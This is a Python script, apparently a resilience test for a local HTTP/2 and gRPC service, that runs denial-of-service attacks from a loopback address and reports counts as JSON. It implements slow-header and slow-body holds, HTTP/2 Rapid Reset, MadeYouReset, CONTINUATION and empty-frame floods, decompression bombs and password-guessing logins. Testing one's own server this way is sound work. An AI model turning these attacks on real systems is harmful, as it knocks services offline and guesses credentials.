"""A client that wants to do harm, for some seconds. Says what it did, as JSON.

abuse.py MANNER PORT CA CERTIFICATE KEY SECONDS PATH

Its first line of input is a customer token; it goes on until its input ends too. It comes from an address of loopback of its own. PATH is that of a request with a body: an upload of
the external API, or a method of the vault.
"""

import base64
import functools
import http.client
import json
import random
import socket
import struct
import sys
import threading
import time
import zlib

import wire
from wire import (CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PRIORITY, RESET,
                  SETTINGS, WINDOW_UPDATE, frame)

manner, port, authorities, certificate, key, seconds, path = sys.argv[1:8]
customer_token = sys.stdin.readline().strip()
door = wire.Door(int(port), authorities, certificate, key, "127.0.0.66")
is_grpc = path.startswith("/tresor.")
counts, lock = {}, threading.Lock()
released = threading.Event()


def count(kind, number=1):
    with lock:
        counts[kind] = counts.get(kind, 0) + number


@functools.cache
def end():
    """The end; the time begins when it is first asked for."""
    return time.monotonic() + float(seconds)


def is_over():
    return time.monotonic() > end() and released.is_set()


def wait_for_release():
    sys.stdin.read()
    released.set()


def is_open(connection):
    """Whether the other side still holds it, as far as is known here by now."""
    connection.setblocking(False)
    try:
        while connection.recv(65536):
            pass
        return False
    except OSError as error:
        return isinstance(error, BlockingIOError) or "did not complete" in str(error)
    finally:
        connection.settimeout(wire.PATIENCE)


def held_of(connections):
    """How many the other side holds, once those that it closes at once are known to be closed."""
    before, now = None, sum(map(is_open, connections))
    while now != before:
        time.sleep(0.5)
        before, now = now, sum(map(is_open, connections))
    return now


def hold(number, connect):
    """Holds as many connections as it gets, and replaces those that are closed."""
    held = []
    while not is_over():
        held = [connection for connection in held if is_open(connection)]
        while len(held) < number and not is_over():
            try:
                held.append(connect())
                count("opened")
            except OSError:
                count("refused")
                break
        time.sleep(0.05)
    counts["held"] = held_of(held)


def silent():
    """Connects by the thousand and says nothing."""
    hold(2_000, door.plain)


def half_hello():
    """Begins a handshake by the thousand and stops."""
    def connect():
        connection = door.plain()
        connection.sendall(bytes([22, 3, 1, 2, 0, 1, 0, 1, 252, 3, 3]) + b"x" * 40)
        return connection
    hold(2_000, connect)


def idle():
    """Holds verified connections on which nothing happens."""
    hold(600, lambda: door.tls("h2" if is_grpc else "http/1.1"))


def dribble(number, begin, drop):
    """Holds connections, and sends each a little now and then."""
    held = []
    while not is_over():
        while len(held) < number and not is_over():
            try:
                held.append(begin())
                count("opened")
            except OSError:
                count("refused")
                break
        alive = []
        for connection in held:
            try:
                connection.sendall(drop(connection))
                alive.append(connection)
            except OSError:
                count("cut")
        held = alive
        time.sleep(0.2)
    counts["held"] = held_of(held)


def slow_headers():
    """Headers that come a line at a time."""
    def begin():
        connection = door.tls("http/1.1")
        connection.sendall(b"GET /v1/limits HTTP/1.1\r\nHost: localhost\r\n")
        return connection
    dribble(300, begin, lambda _: b"X: y\r\n")


def slow_headers_http2():
    """A header section that comes in pieces of one field."""
    def begin():
        connection = door.http2()
        connection.sendall(frame(HEADERS, 0, 1, head()))
        return connection
    dribble(300, begin, lambda _: frame(CONTINUATION, 0, 1, wire.field("x", "y")))


def slow_bodies():
    """Bodies that come a byte at a time."""
    def begin():
        connection = door.http2()
        connection.sendall(b"".join(frame(HEADERS, END_HEADERS, stream, head())
                                    for stream in range(1, 100, 2)))
        return connection

    def drop(_):
        byte = b"\0" if is_grpc else b" "
        return b"".join(frame(DATA, 0, stream, byte) for stream in range(1, 100, 2))
    dribble(40, begin, drop)


def head():
    kind = "application/grpc" if is_grpc else "application/x-ndjson"
    more = (("te", "trailers"),) if is_grpc else (("tresor-customer-token", customer_token),)
    return wire.request("POST", path, ("content-type", kind), *more)


def flood(pieces, is_deaf=False):
    """Several connections that send `pieces(turn)` as fast as they are taken."""
    def one():
        while not is_over():
            try:
                with door.http2() as connection:
                    count("connections")
                    turn = 0
                    connection.settimeout(2)
                    while not is_over():
                        connection.sendall(pieces(turn))
                        turn += 1
                        count("pieces")
                        if not is_deaf:
                            drain(connection)
            except TimeoutError:
                count("held back")
            except OSError:
                count("cut")
    together([one] * 4)


def drain(connection):
    connection.settimeout(0)
    try:
        while connection.recv(65536):
            pass
    except (BlockingIOError, OSError):
        pass
    connection.settimeout(2)


def together(functions):
    threads = [threading.Thread(target=function) for function in functions]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


def rapid_reset():
    """Opens streams and resets each at once (CVE-2023-44487)."""
    opening = head()

    def pieces(turn):
        streams = range(200 * turn + 1, 200 * turn + 201, 2)
        return b"".join(frame(HEADERS, END_HEADERS, stream, opening) +
                        frame(RESET, 0, stream, struct.pack(">I", 8)) for stream in streams)
    flood(pieces)


def made_to_reset():
    """Has the other side reset streams: each breaks a rule at once (CVE-2025-8671)."""
    opening = head()

    def pieces(turn):
        streams = range(200 * turn + 1, 200 * turn + 201, 2)
        return b"".join(frame(HEADERS, END_HEADERS, stream, opening) +
                        frame(WINDOW_UPDATE, 0, stream, bytes(4)) for stream in streams)
    flood(pieces)


def continuation():
    """A header section that never ends (CVE-2024-27316)."""
    more = frame(CONTINUATION, 0, 1, wire.field("x-flood", "x" * 16_000))
    flood(lambda turn: more if turn else frame(HEADERS, 0, 1, head()))


def empty_continuation():
    """The same without a byte of header."""
    more = frame(CONTINUATION, 0, 1) * 100
    flood(lambda turn: more if turn else frame(HEADERS, 0, 1, head()))


def pings():
    """Pings, whose answers nobody reads."""
    many = b"".join(frame(PING, 0, 0, struct.pack(">Q", at)) for at in range(500))
    flood(lambda _: many, is_deaf=True)


def settings():
    """Settings, whose acknowledgements nobody reads."""
    some = frame(SETTINGS, 0, 0, struct.pack(">HIHI", 4, 65_535, 1, 4_096))
    flood(lambda _: some * 500, is_deaf=True)


def priorities():
    """Frames without an effect."""
    some = frame(PRIORITY, 0, 1, struct.pack(">IB", 3, 7)) + \
        frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))
    flood(lambda _: some * 200)


def empty_data():
    """Bodies of frames without a byte (CVE-2019-9518)."""
    nothing = frame(DATA, 0, 1) * 500
    flood(lambda turn: nothing if turn else frame(HEADERS, END_HEADERS, 1, head()))


class Flow:
    """Bodies over one connection, as fast as they are taken (RFC 9113 §5.2)."""

    def __init__(self, connection):
        self.connection, self.rest, self.initial = connection, b"", 65_535
        self.windows = {0: 65_535}
        connection.settimeout(1)

    def open(self, stream, *more):
        self.windows[stream] = self.initial
        self.connection.sendall(frame(HEADERS, END_HEADERS, stream, head() + wire.fields(*more)))

    def room(self, stream):
        return min(self.windows[0], self.windows[stream], 16_000)

    def send(self, stream, data, flags=0):
        self.connection.sendall(frame(DATA, flags, stream, data))
        for one in (0, stream):
            self.windows[one] -= len(data)
        count("bytes", len(data))

    def take(self):
        """The frames that came; none when none comes for a second."""
        try:
            piece = self.connection.recv(65_536)
        except TimeoutError:
            return []
        if not piece:
            raise ConnectionError
        *whole, self.rest = cut_frames(self.rest + piece)
        for kind, _, stream, payload in whole:
            if kind == WINDOW_UPDATE and stream in self.windows:
                self.windows[stream] += int.from_bytes(payload, "big")
            if kind == SETTINGS and payload:
                self.resize(dict(struct.iter_unpack(">HI", payload)).get(4, self.initial))
        return whole

    def resize(self, initial):
        for stream in self.windows:
            self.windows[stream] += initial - self.initial if stream else 0
        self.initial = initial


def cut_frames(data):
    """The whole frames of `data`, and the rest."""
    at = 0
    while len(data) >= at + 9:
        length = 9 + int.from_bytes(data[at:at + 3], "big")
        if len(data) < at + length:
            break
        yield from wire.frames(data[at:at + length])
        at += length
    yield data[at:]


def announcements():
    """Many messages at once that are announced and do not come."""
    hoard(sent=1)


def hoard(sent=None):
    """Many bodies at once that never end, each as long as one may be."""
    size = 4_000_000 if is_grpc else 60_000
    sent = sent or size
    begun = b"\0" + (size + 9).to_bytes(4, "big") if is_grpc else b'{"x":"'

    def one():
        with door.http2() as connection:
            flow, left = Flow(connection), {}
            for stream in range(1, 200, 2):
                flow.open(stream)
                flow.send(stream, begun)
                left[stream] = sent
            while not is_over():
                for stream in [one for one in left if left[one] and flow.room(one)]:
                    room = min(flow.room(stream), left[stream])
                    flow.send(stream, b"x" * room)
                    left[stream] -= room
                ended = [it[2] for it in flow.take() if it[0] in (HEADERS, RESET) and it[2] in left]
                count("refused", sum(left.pop(stream, None) is not None for stream in ended))
    together([lambda: repeat(one)] * 4)


def body(data, *more):
    """A whole request with a body, and whether it was answered before all was sent."""
    with door.http2(struct.pack(">HI", 4, 1 << 20)) as connection:
        flow, sent = Flow(connection), 0
        flow.open(1, *more)
        for _ in range(wire.PATIENCE * 1_000):
            while sent < len(data) and flow.room(1):
                piece = data[sent:sent + flow.room(1)]
                sent += len(piece)
                flow.send(1, piece, END_STREAM if sent == len(data) else 0)
            for kind, flags, stream, _ in flow.take():
                is_answer = stream == 1 and kind in (HEADERS, DATA) and flags & END_STREAM
                if is_answer or kind in (RESET, wire.GOAWAY):
                    return count("refused" if sent < len(data) else "answered")


def repeat(call):
    while not is_over():
        try:
            call()
        except OSError:
            count("cut")


def giants():
    """Messages of 100 MB."""
    size = 100_000_000
    data = (b"\0" + size.to_bytes(4, "big") if is_grpc else b'{"x":"') + b"x" * size
    together([lambda: repeat(lambda: body(data))] * 2)


def bombs():
    """100 MB from some kilobytes."""
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    packed = packer.compress(b"\n" * 100_000_000) + packer.flush()
    data = b"\1" + len(packed).to_bytes(4, "big") + packed if is_grpc else packed
    name = "grpc-encoding" if is_grpc else "content-encoding"
    together([lambda: repeat(lambda: body(data, (name, "gzip")))] * 4)


def logins():
    """Wrong passwords, of a user that there is and of many that there are not."""
    def one():
        connection = http.client.HTTPSConnection(
            "localhost", door.port, context=door.context(), source_address=(door.address, 0))
        while not is_over():
            user = random.choice(["planner", f"u{random.randrange(10 ** 9)}"])
            basic = base64.b64encode(f"{user}:{random.random()} and more".encode()).decode()
            connection.request("GET", "/v1/limits", headers={"Authorization": f"Basic {basic}"})
            answer = connection.getresponse()
            answer.read()
            count(str(answer.status))
    together([lambda: repeat(one)] * 32)


threading.Thread(target=wait_for_release, daemon=True).start()
socket.setdefaulttimeout(wire.PATIENCE)
globals()[manner]()
print(json.dumps(counts), flush=True)
